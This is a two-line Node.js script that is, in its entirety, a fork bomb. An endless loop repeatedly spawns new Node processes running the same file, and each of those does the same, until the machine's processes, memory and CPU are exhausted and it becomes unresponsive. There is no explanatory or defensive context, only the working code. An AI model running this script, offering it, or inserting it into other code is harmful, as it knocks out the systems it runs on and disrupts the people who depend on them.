import { spawn } from "child_process";

for (;;) spawn(process.execPath, [__filename]);
